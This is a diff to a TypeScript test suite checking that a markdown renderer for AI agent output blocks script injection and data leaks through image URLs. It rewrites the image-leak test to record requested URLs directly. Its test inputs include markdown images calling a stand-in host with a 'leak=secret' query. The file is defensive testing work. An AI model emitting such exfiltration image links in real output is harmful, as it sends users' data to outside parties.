@@ -148,6 +148,47 @@ function renders(md: string): HTMLElement[] {
   return [whole, streamed];
 }
 
+/**
+ * Resolves once an image of our own has failed to load: an error handler a payload had smuggled
+ * in on an image of its own, queued before it, would have run by then.
+ */
+function afterImageErrors(): Promise<void> {
+  return new Promise((resolve) => {
+    const probe = new Image();
+    probe.onerror = () => resolve();
+    probe.src = 'data:image/png;base64,AA==';
+  });
+}
+
+/**
+ * Every URL `run` hands an element to fetch (a `src` or `srcset`, set as an attribute or a property):
+ * rendering is synchronous, so no wait is needed to know that none was asked for. Links are not
+ * fetched; the tests above check their URLs.
+ */
+function urlsHandedOut(run: () => void): string[] {
+  const values: string[] = [];
+  const setAttribute = Element.prototype.setAttribute;
+  const src = Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src')!;
+  Element.prototype.setAttribute = function (this: Element, name: string, value: string) {
+    if (/^src(set)?$/i.test(name)) values.push(value);
+    setAttribute.call(this, name, value);
+  };
+  Object.defineProperty(HTMLImageElement.prototype, 'src', {
+    ...src,
+    set(this: HTMLImageElement, value: string) {
+      values.push(value);
+      src.set!.call(this, value);
+    },
+  });
+  try {
+    run();
+  } finally {
+    Element.prototype.setAttribute = setAttribute;
+    Object.defineProperty(HTMLImageElement.prototype, 'src', src);
+  }
+  return values;
+}
+
 describe('agent output cannot run script or leak data', () => {
   it.each(PAYLOADS)('%s', async (md) => {
     win.pwned = 0;
@@ -156,7 +197,7 @@ describe('agent output cannot run script or leak data', () => {
       // No element came out of the raw HTML.
       expect(root.querySelector('script, iframe, svg, style, form, input, details, b, object, embed')).toBeNull();
     }
-    await new Promise((r) => setTimeout(r, 20));
+    await afterImageErrors();
     expect(win.pwned).toBe(0);
   });
 
@@ -214,28 +255,21 @@ describe('agent output cannot run script or leak data', () => {
     ]);
   });
 
-  it('requests no image from a host that is not allowed, and renders its alt text instead', async () => {
-    const before = performance.getEntriesByType('resource').length;
-    const seen: string[] = [];
-    const observer = new PerformanceObserver((list) => list.getEntries().forEach((e) => seen.push(e.name)));
-    observer.observe({ type: 'resource', buffered: false });
-    for (const root of renders(
-      'See ![the chart](https://attacker.example/p.png?leak=secret) and ' +
-        '![x](//attacker.example/q.png) ![y](https://localhost.attacker.example/r.png)',
-    )) {
-      expect(root.querySelector('img')).toBeNull();
-      expect(root.textContent).toBe('See the chart and x y');
-    }
-    await new Promise((r) => setTimeout(r, 200));
-    observer.disconnect();
-    const leaked = [
-      ...seen,
-      ...performance
-        .getEntriesByType('resource')
-        .slice(before)
-        .map((e) => e.name),
-    ].filter((u) => u.includes('attacker.example'));
-    expect(leaked).toEqual([]);
+  it('requests no image from a host that is not allowed, and renders its alt text instead', () => {
+    const asked = urlsHandedOut(() => {
+      for (const root of renders(
+        'See ![the chart](https://attacker.example/p.png?leak=secret) and ' +
+          '![x](//attacker.example/q.png) ![y](https://localhost.attacker.example/r.png)',
+      )) {
+        expect(root.querySelector('img')).toBeNull();
+        expect(root.textContent).toBe('See the chart and x y');
+      }
+    });
+    expect(asked.filter((url) => url.includes('attacker.example'))).toEqual([]);
+    // The doors watched are the ones an image goes through.
+    expect(urlsHandedOut(() => renders('![a](https://allowed.example/c.png)'))).toContain(
+      'https://allowed.example/c.png',
+    );
   });
 
   it('renders images from allowed hosts, without a referrer, lazily', () => {
